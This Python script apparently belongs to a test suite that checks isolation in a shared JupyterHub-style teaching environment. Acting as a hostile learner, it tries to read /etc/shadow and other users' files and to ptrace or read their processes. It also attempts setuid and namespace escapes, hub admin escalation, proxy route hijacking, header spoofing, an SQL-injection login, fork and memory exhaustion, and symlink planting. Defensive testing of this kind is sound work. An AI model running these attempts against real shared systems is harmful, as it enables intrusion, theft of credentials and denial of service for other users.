# ruff: noqa: PTH104, PTH110, PTH112, PTH115, PTH118, PTH207, PTH208, SIM115
"""What a hostile learner tries from a kernel of their own: standard library alone, run inside that kernel.

Each try is a function; its first line says what must not be possible. It returns what it got, for the report;
nothing, or an error of the system's, means that it was refused. ``TARGET`` is set by the test: the folders of
the room and of the kit, the address of the room, and the name and user of another seat.
"""

import base64
import ctypes
import glob
import json
import os
import re
import resource
import signal
import socket
import ssl
import struct
import time
import urllib.error
import urllib.request
from contextlib import suppress
from pathlib import Path

TARGET: dict = globals().get("TARGET", {})
TRIES = {}
SYSTEM = ctypes.CDLL(None, use_errno=True)
TOKEN = os.environ.get("JUPYTERHUB_API_TOKEN", "")
PLANTED = (
    "08_access_control", "09_audit_and_monitoring", "10_adversarial_inputs",
    "11_poisoning_and_supply_chain", "12_model_theft",
)  # fmt: skip
REFUSED = (401, 403, 404, 405, 429)


def attempt(function):
    """Count a function among the tries."""
    TRIES[function.__name__] = function
    return function


def readable(paths):
    """Return those of the paths of which something can be read or listed."""
    found = []
    for path in paths:
        with suppress(OSError, ValueError):
            if os.path.isdir(path):
                if os.listdir(path):
                    found.append(path)
            elif Path(path).open("rb").read(1):
                found.append(path)
    return found[:5]


def strangers():
    """Return the numbers of processes of other users."""
    return [
        int(name)
        for name in os.listdir("/proc")
        if name.isdigit() and os.path.exists(f"/proc/{name}") and owner(name) != os.getuid()
    ]


def owner(number):
    """Return a process's user; -1 where it has ended."""
    with suppress(OSError, ValueError, AttributeError):
        status = Path(f"/proc/{number}/status").read_text(errors="replace")
        return int(re.search(r"^Uid:\s+(\d+)", status, re.M)[1])
    return -1


def fill(mib):
    """Take so much memory and write to all of it."""
    kept = []
    for _ in range(mib // 64 + 4):
        kept.append(bytearray(b"x") * (64 << 20))
    return len(kept)


def listening():
    """Return port and user of everything that listens on TCP."""
    found = []
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        words = line.split()
        if words[3] == "0A":
            found.append((int(words[1].split(":")[1], 16), int(words[7])))
    return found


def context():
    """Return a TLS context with this seat's own certificate, which trusts everybody."""
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    with suppress(OSError):
        made.load_cert_chain(os.environ["JUPYTERHUB_SSL_CERTFILE"], os.environ["JUPYTERHUB_SSL_KEYFILE"])
    return made


def speaks_tls(port):
    """Return whether a port begins to talk by TLS."""
    with (
        suppress(OSError),
        socket.create_connection(("127.0.0.1", port), 2) as channel,
        context().wrap_socket(channel) as one,
    ):
        return bool(one.version())
    return False


def call(address, body=None, method=None, headers=None):
    """Return status and text of a request with this seat's token; redirects are not followed."""

    class Stay(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *_):
            return None

    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), Stay, urllib.request.HTTPSHandler(context=context())
    )
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(address, data, headers or {}, method=method)
    if "Authorization" not in (headers or {}):
        request.add_header("Authorization", f"token {TOKEN}")
    try:
        with opener.open(request, timeout=2) as answer:
            return answer.status, answer.read(2000).decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, ""
    except (OSError, ValueError) as error:
        return 0, type(error).__name__


def granted(calls):
    """Return the calls that were not refused."""
    return [f"{method} {address.split('/', 3)[-1]} {status}" for method, address, status in calls
            if 200 <= status < 300]  # fmt: skip


# ------------------------------------------------------------------------------------------ files


@attempt
def read_another_home():
    """Read another learner's files."""
    home = f"{TARGET['room']}/homes/{TARGET['seat']}"
    return readable([home, f"{home}/labs", f"{home}/.secure-ai/progress.sqlite", f"{home}/.server.log",
                     f"{home}/.local/share/jupyter/runtime", f"{TARGET['room']}/homes"])  # fmt: skip


@attempt
def read_what_is_the_instructors():
    """Read the room's private folder, keys, the instructor's home and the system's secrets."""
    room = TARGET["room"]
    names = ("", "/room.json", "/codes.sqlite", "/hub.sqlite", "/board.token", "/admin.token",
             "/cookie.secret", "/slips.html", "/logs", "/internal-ssl", "/board.sqlite", "/proxy.pid",
             "/processes.json")  # fmt: skip
    more = ["/etc/shadow", "/root/.ssh", "/root/.bash_history", f"{room}/run/certificates/{TARGET['seat']}"]
    return readable([f"{room}/private{name}" for name in names] + more)


@attempt
def find_solutions():
    """Find a solution, a test, or the history in the folders of the kit and the room."""
    kit, room, found = TARGET["kit"], TARGET["room"], []
    found += readable([f"{kit}/{name}" for name in ("solutions", "tests", ".git", "benchmarks", ".ci")])
    for top in (kit, f"{room}/kit", f"{room}/shared", f"{room}/run"):
        for place, folders, files in os.walk(top):
            folders[:] = [one for one in folders if one not in (".venv", ".venv-workshop")]
            for name in files:
                path = os.path.join(place, name)
                if name == "solutions.json":
                    found += readable([path])
                elif name.endswith((".ipynb", ".py", ".yaml")):
                    # As it stands in a notebook's JSON; the kit's code speaks of the marker, too.
                    with suppress(OSError):
                        if b"### BEGIN SOLUTION\\n" in Path(path).read_bytes():
                            found.append(path)
    return found[:5]


@attempt
def write_what_is_shared():
    """Change the kit, its environments, the kernel, what was released, or the system."""
    kit, room = TARGET["kit"], TARGET["room"]
    places = [kit, f"{kit}/secure_ai", f"{kit}/labs", f"{kit}/.venv", f"{kit}/.venv-workshop", room,
              *glob.glob(f"{kit}/.venv/lib/python3*/site-packages"), f"{room}/run", f"{room}/homes",
              f"{room}/shared", f"{room}/shared/jupyter", f"{room}/shared/jupyter/config", f"{room}/kit",
              f"{room}/shared/jupyter/kernels/python3", f"{room}/shared/solutions",
              f"{room}/run/certificates", f"{room}/run/certificates/{os.environ.get('USER')}",
              f"{room}/homes/{TARGET['seat']}", "/usr/bin", "/etc", "/root", "/usr/local/bin"]  # fmt: skip
    found = []
    for place in places:
        with suppress(OSError):
            path = Path(place, ".attack")
            path.write_text("x")
            found.append(place)
            path.unlink()
    for file in (f"{room}/shared/jupyter/kernels/python3/kernel.json", f"{kit}/secure_ai/__init__.py",
                 f"{room}/run/kernel.sock", f"{kit}/.venv/bin/python"):  # fmt: skip
        if os.access(file, os.W_OK) and not file.endswith(".sock"):
            found.append(file)
        with suppress(OSError):
            os.rename(file, file + ".attack")
            found.append(f"renamed {file}")
            os.rename(file + ".attack", file)
    return found


# -------------------------------------------------------------------------------------- processes


@attempt
def read_processes_of_others():
    """Read environment, memory, open files, root or folder of another user's process."""
    found = []
    for number in strangers():
        for part in ("environ", "mem", "maps", "auxv", "stack", "syscall"):
            with suppress(OSError), Path(f"/proc/{number}/{part}").open("rb") as file:
                if part == "mem" or file.read(1):
                    found.append(f"{part} of a process of {owner(number)}")
        for part in ("root", "cwd", "fd", "exe"):
            with suppress(OSError):
                if (
                    os.listdir(f"/proc/{number}/{part}")
                    if part != "exe"
                    else os.readlink(f"/proc/{number}/exe")
                ):
                    found.append(f"{part} of a process of {owner(number)}")
    return sorted(set(found))[:8]


@attempt
def find_secrets_in_command_lines():
    """Find a token or a code among the words that processes were started with, which everybody sees."""
    found = []
    for number in strangers():
        with suppress(OSError):
            words = Path(f"/proc/{number}/cmdline").read_bytes().decode(errors="replace").split("\0")
            if any(TARGET["room"] in word for word in words):
                found += [word for word in words if re.search(r"(?i)token=.|[0-9a-f]{32}", word)]
    return found


@attempt
def trace_processes_of_others():
    """Attach to another user's process as a debugger, or read its memory by a call."""
    found = []
    for number in strangers():
        if SYSTEM.ptrace(16, number, None, None) == 0:
            os.waitpid(number, 0)
            SYSTEM.ptrace(17, number, None, None)
            found.append(owner(number))
        buffer = ctypes.create_string_buffer(8)
        parts = struct.pack("QQ", ctypes.addressof(buffer), 8), struct.pack("QQ", 0x400000, 8)
        if SYSTEM.process_vm_readv(number, parts[0], 1, parts[1], 1, 0) > 0:
            found.append(owner(number))
    return sorted(set(found))


@attempt
def signal_processes_of_others():
    """Send a signal to another user's process; signal 0 asks whether one may."""
    found = []
    for number in strangers():
        with suppress(OSError):
            os.kill(number, 0)
            found.append(owner(number))
    return sorted(set(found) - {-1})


@attempt
def gain_rights():
    """Become another user, leave the limits, or see a file system that is not the seat's."""
    found = []
    for wanted in (0, TARGET["uid"]):
        with suppress(OSError):
            os.setuid(wanted)
            found.append(f"became {wanted}")
    if SYSTEM.prctl(39, 0, 0, 0, 0) != 1:
        found.append("programs may give rights (no_new_privs is not set)")
    with suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_NPROC, (4096, 4096))
        found.append("more processes")
    with suppress(OSError):
        Path("/proc/self/oom_score_adj").write_text("-900")
        found.append("never ended when memory is short")
    for file in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:200]:
        with suppress(OSError):
            Path(file).write_text(str(os.getpid()))
            found.append(f"joined {file}")
    return found


@attempt
def leave_the_view():
    """See behind the folders that cover the instructor's, by a namespace of one's own."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        found = []
        with suppress(BaseException):
            for kind in ("mnt", "user"):
                with suppress(OSError):
                    number = os.open("/proc/1/ns/" + kind, os.O_RDONLY)
                    if SYSTEM.setns(number, 0) == 0:
                        found.append(f"joined {kind}")
            SYSTEM.unshare(0x10000000 | 0x00020000)
            for place in (TARGET["kit"], "/root"):
                if SYSTEM.umount2(place.encode(), 2) == 0:
                    found.append(f"uncovered {place}")
            found += readable([f"{TARGET['kit']}/solutions", f"{TARGET['kit']}/tests"])
        with suppress(BaseException):
            os.write(writer, json.dumps(found).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as pipe:
        text = pipe.read()
    os.waitpid(child, 0)
    return json.loads(text or "[]")


# ------------------------------------------------------------------------------- the warm processes


def ask_warm(name, request, credentials=None):
    """Ask a warm process for a fork; return its number, 0 if there is none."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as channel:
        channel.settimeout(5)
        channel.connect(f"{TARGET['room']}/run/{name}.sock")
        data = json.dumps(request).encode()
        nothing = os.open(os.devnull, os.O_RDWR)
        more = []
        if credentials:
            more = [(socket.SOL_SOCKET, 2, struct.pack("3i", os.getpid(), credentials, credentials))]
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", nothing, nothing, nothing))
        try:
            channel.sendmsg([struct.pack("!I", len(data))], [rights, *more])
            channel.sendall(data)
            (number,) = struct.unpack("!i", channel.recv(4))
        finally:
            os.close(nothing)
        user = owner(number)
        with suppress(OSError):
            os.kill(number, signal.SIGKILL)
        return number, user


@attempt
def have_a_process_forked_for_another():
    """Have a warm process make a process of another user."""
    found = []
    environment = dict(os.environ) | {"USER": TARGET["seat"], "UID": str(TARGET["uid"])}
    for name in ("kernel", "server"):
        for credentials in (None, 0, TARGET["uid"]):
            request = {"argv": ["--help"], "env": environment, "cwd": "/", "uid": TARGET["uid"], "user": 0}
            with suppress(OSError, struct.error):
                _, user = ask_warm(name, request, credentials)
                if user not in (os.getuid(), -1):
                    found.append(f"{name}: a process of {user}")
    return found


@attempt
def hold_the_warm_processes():
    """Hold connections open, say nothing or nonsense, so that others wait for their kernels: see the test."""
    held = []
    for name in ("kernel", "server"):
        for number in range(60):
            channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            channel.settimeout(1)
            with suppress(OSError):
                channel.connect(f"{TARGET['room']}/run/{name}.sock")
                if number % 2:
                    channel.sendall(b"\xff" * 64)
                held.append(channel)
    time.sleep(3)  # who was refused knows it by now
    alive = 0
    for channel in held:
        channel.settimeout(0.02)
        try:
            channel.recv(1)  # the end, or the code with which the fork ended
        except TimeoutError:
            alive += 1  # still held
        except OSError:
            pass
        channel.close()
    return [f"{alive} forks at once"] if alive > 2 * 12 else []


# ----------------------------------------------------------------------------- kernels and servers


@attempt
def listen_to_another_kernel():
    """Read what another learner's kernel publishes: messages are signed there, and not encrypted."""
    import zmq

    found = []
    ports = [port for port, user in listening() if user == TARGET["uid"]]
    sockets, poller = [], zmq.Poller()
    with zmq.Context() as made:
        for port in ports:
            one = made.socket(zmq.SUB)
            one.setsockopt(zmq.LINGER, 0)
            one.subscribe(b"")
            one.connect(f"tcp://127.0.0.1:{port}")
            poller.register(one, zmq.POLLIN)
            sockets.append(one)
        until = time.monotonic() + 3.0  # the test has the other learner run a cell all the time
        while sockets and time.monotonic() < until and not found:
            for one, _ in poller.poll(200):
                found.append(b" ".join(one.recv_multipart())[:200].decode(errors="replace"))
        for one in sockets:
            one.close()
    return found[:2]


@attempt
def open_another_seats_server():
    """Call another seat's server, through the proxy and at its own port, with one's own token."""
    seat, calls = TARGET["seat"], []
    doors = [TARGET["door"]]
    for port, user in listening():
        if user == TARGET["uid"]:
            doors += [f"https://127.0.0.1:{port}", f"http://127.0.0.1:{port}"]
    for door in doors:
        if call(f"{door}/user/{seat}/api/status")[0] == 0:
            continue  # a port of a kernel
        for path in ("api/contents", "api/kernels", "api/sessions", "api/contents/labs", "files/.server.log"):
            address = f"{door}/user/{seat}/{path}"
            calls.append(("GET", address, call(address)[0]))
            calls.append(("GET", address, call(f"{address}?token={TOKEN}")[0]))
        address = f"{door}/user/{seat}/api/kernels"
        calls.append(("POST", address, call(address, {"name": "python3"}, "POST")[0]))
    return granted(calls)


# --------------------------------------------------------------------------- hub, proxy and board


@attempt
def call_the_hub():
    """Have the hub list users, start or end others' servers, give tokens, or end itself."""
    me, seat, calls = os.environ.get("USER", ""), TARGET["seat"], []
    doors = {f"{TARGET['door']}/hub/api", os.environ.get("JUPYTERHUB_API_URL", "").rstrip("/")} - {""}
    wanted = [
        ("GET", "/users"), ("GET", f"/users/{seat}"), ("GET", "/users/instructor"), ("GET", "/groups"),
        ("GET", "/proxy"), ("POST", "/proxy"), ("GET", "/services"), ("GET", "/services/room"),
        ("POST", f"/users/{seat}/server"), ("DELETE", f"/users/{seat}/server"),
        ("DELETE", f"/users/{me}/server"), ("POST", f"/users/{seat}/tokens"),
        ("GET", f"/users/{seat}/tokens"),
        ("POST", f"/users/{me}/tokens"), ("GET", f"/users/{me}/tokens"), ("POST", "/users/intruder"),
        ("PATCH", f"/users/{me}"), ("DELETE", f"/users/{seat}"), ("POST", "/shutdown"),
        ("POST", f"/users/{seat}/activity"), ("GET", f"/users/{seat}/server/progress"),
    ]  # fmt: skip
    bodies = {"PATCH": {"admin": True}, "POST": {}}
    for door in doors:
        for method, path in wanted:
            body = (
                {"last_activity": "2030-01-01T00:00:00Z"} if path.endswith("activity") else bodies.get(method)
            )
            calls.append((method, door + path, call(door + path, body, method)[0]))
    for path in ("/hub/admin", "/hub/token", "/hub/home", "/metrics", "/hub/metrics"):
        calls.append(("GET", TARGET["door"] + path, call(TARGET["door"] + path)[0]))
    return granted(calls)


@attempt
def call_the_proxy():
    """Read or change where the proxy leads, with one's own certificate and token."""
    calls = []
    for port, user in listening():
        if user == 0 and port in TARGET["ports"]:
            for scheme in ("https", "http"):
                door = f"{scheme}://127.0.0.1:{port}/api/routes"
                calls.append(("GET", door, call(door)[0]))
                body = {"target": "http://127.0.0.1:9"}
                calls.append(("POST", door, call(f"{door}/services/board", body, "POST")[0]))
    return granted(calls)


@attempt
def read_the_board():
    """Read the board, or say something to the class in the instructor's place."""
    board, calls = f"{TARGET['door']}/services/board/", []
    for path in ("", "api/state", "api/names", "api/stream", "api/submission/1"):
        calls.append(("GET", board + path, call(board + path)[0]))
    for path, body in (
        ("api/hint", {"seats": "all", "text": "attack"}), ("api/announce", {"text": "attack"}),
        ("api/timer", {"action": "next"}),
    ):  # fmt: skip
        calls.append(("POST", board + path, call(board + path, body, "POST")[0]))
    for port in TARGET["ports"]:
        address = f"https://127.0.0.1:{port}/services/board/api/state"
        calls.append(("GET", address, call(address)[0]))
    return granted(calls)


@attempt
def be_another_seat_on_the_board():
    """Post an event and read the inbox as another seat; the test looks whether the board believes it."""
    board, seat = f"{TARGET['door']}/services/board/", TARGET["seat"]
    event = {"lab": "00_start_here", "task": "", "status": "incorrect", "message": "attack", "hints_used": 0,
             "sector": "healthcare", "seat": seat, "name": seat, "user": seat}  # fmt: skip
    for path in (f"api/event?seat={seat}&user={seat}", "api/event"):
        call(board + path, event, "POST", {"Content-Type": "application/json", "X-Forwarded-User": seat})
    status, text = call(f"{board}api/inbox?since=0&wait=0&seat={seat}&user={seat}")
    return [f"inbox of {seat}"] if status == 200 and TARGET["secret"] in text else []


@attempt
def sign_in_by_guessing():
    """Sign in as the instructor or another learner without a code."""
    found = []
    for code in ("", seat_code("' OR 1=1 --"), "instructor", TARGET["seat"], "aaaa-aaaa"):
        address = f"{TARGET['door']}/hub/login"
        data = f"code={code}&username=instructor&_xsrf=x".encode()
        request = urllib.request.Request(address, data, {"Cookie": "_xsrf=x"})
        with suppress(OSError), urllib.request.urlopen(request, timeout=2) as answer:
            if "/hub/login" not in answer.url:
                found.append(code)
    basic = base64.b64encode(b"instructor:").decode()
    status, _ = call(f"{TARGET['door']}/hub/api/user", headers={"Authorization": f"Basic {basic}"})
    return found + (["basic"] if status == 200 else [])


def seat_code(text):
    """Return a text as it stands in a form."""
    return urllib.request.quote(text)


# ------------------------------------------------------------------------- what may be used of the machine


@attempt
def use_more_processes_and_disk():
    """Use more processes, or disk in one file, than a seat has."""
    found = []
    children = []
    try:
        while len(children) < 1000:
            number = os.fork()
            if number == 0:
                signal.alarm(60)
                signal.pause()
                os._exit(0)
            children.append(number)
        found.append("1000 processes")
    except OSError:
        pass
    finally:
        for number in children:
            os.kill(number, signal.SIGKILL)
            os.waitpid(number, 0)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with suppress(OSError), Path("large.attack").open("wb") as file:
        file.truncate(8 << 30)
        found.append("a file of 8 GiB")
    Path("large.attack").unlink(missing_ok=True)
    return found


@attempt
def plant_links():
    """Have the instructor's commands follow a link out of the home: the test runs them, and looks."""
    home, room = Path(os.environ["HOME"]), TARGET["room"]
    labs, others = home / "labs", f"{room}/homes/{TARGET['seat']}"
    for name in PLANTED:
        path = labs / f"{name}.ipynb"
        if path.is_symlink() or path.exists():
            path.rename(labs / f"{name}.attack")
    (labs / f"{PLANTED[0]}.ipynb").symlink_to(f"{room}/private/room.json")
    (labs / f"{PLANTED[1]}.ipynb").symlink_to(f"{others}/labs")
    (labs / f"{PLANTED[2]}.ipynb").mkdir()
    os.mkfifo(labs / f"{PLANTED[3]}.ipynb")
    with (labs / f"{PLANTED[4]}.ipynb").open("wb") as file:
        file.truncate(900 << 20)
    # Where a lab is kept that is reset.
    backups = labs / ".backups"
    if backups.exists() and not backups.is_symlink():
        backups.rename(labs / ".backups.attack")
    backups.unlink(missing_ok=True)
    backups.symlink_to(f"{room}/private")
    found = []
    for source in (f"{room}/private/room.json", "/etc/shadow", f"{room}/homes/{TARGET['seat']}/labs"):
        with suppress(OSError):
            os.link(source, home / "hard.attack")
            found.append(f"a second name for {source}")
            (home / "hard.attack").unlink()
    return found


@attempt
def use_more_memory():
    """Use more memory than a seat has; the kernel may end, the others go on: see the test."""
    child = os.fork()
    if child == 0:
        with suppress(BaseException):
            Path("/proc/self/oom_score_adj").write_text("1000")
            signal.alarm(60)
            os._exit(7 if fill(TARGET["memory_mib"]) else 1)
        os._exit(1)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return [f"more than {TARGET['memory_mib']} MiB"] if code == 7 else []


@attempt
def fill_the_kernel_itself():
    """Use more memory than a seat has in the kernel, which has nothing to lose: it ends, the others go on."""
    return [f"more than {TARGET['memory_mib']} MiB"] if fill(TARGET["memory_mib"]) else []


# ------------------------------------------------------------------------- what must succeed


def controls():
    """Do with one's own what the tries do with others': a way that does not lead there refuses nothing."""
    me, home = os.environ.get("USER", ""), os.environ["HOME"]
    board = f"{TARGET['door']}/services/board/"
    mark = Path(home, ".attack")
    mark.write_text("x")
    mark.unlink()
    child = os.fork()
    if child == 0:
        signal.pause()
    os.kill(child, 0)
    traced = SYSTEM.ptrace(16, child, None, None) == 0
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    _, user = ask_warm("kernel", {"argv": ["--help"], "env": dict(os.environ), "cwd": "/"})
    ports = [port for port, owner_ in listening() if owner_ == os.getuid()]
    return {
        "my home can be read": bool(readable([home])),
        "my processes can be seen": owner(os.getpid()) == os.getuid(),
        "others' processes can be seen": len(strangers()) > 3,
        "my child can be traced": traced,
        "a fork is mine": user in (os.getuid(), -1),
        "my server answers me": call(f"{TARGET['door']}/user/{me}/api/contents")[0] == 200,
        # It asks for the proxy's certificate, so that the seat's own gets no further than this.
        "my server's port is found": any(map(speaks_tls, ports)),
        "the hub knows me": call(f"{TARGET['door']}/hub/api/user")[0] == 200,
        "the board answers me": call(f"{board}api/inbox?since=0&wait=0")[0] == 200,
    }


def main():
    """Try everything; print what came of each as a line of JSON."""
    if not TARGET:
        return
    if TARGET.get("controls"):
        print("\nATTACK " + json.dumps({"name": "controls", "got": [], "held": controls()}), flush=True)
    for name, function in TRIES.items():
        if TARGET.get("only") and name not in TARGET["only"]:
            continue
        began, refused, got = time.monotonic(), "", []
        try:
            got = [str(one)[:300] for one in function() or []]
        except Exception as error:
            refused = f"{type(error).__name__}: {error}"[:200]
        seconds = round(time.monotonic() - began, 2)
        result = {"name": name, "got": got, "refused": refused, "seconds": seconds}
        print("\nATTACK " + json.dumps(result), flush=True)


main()
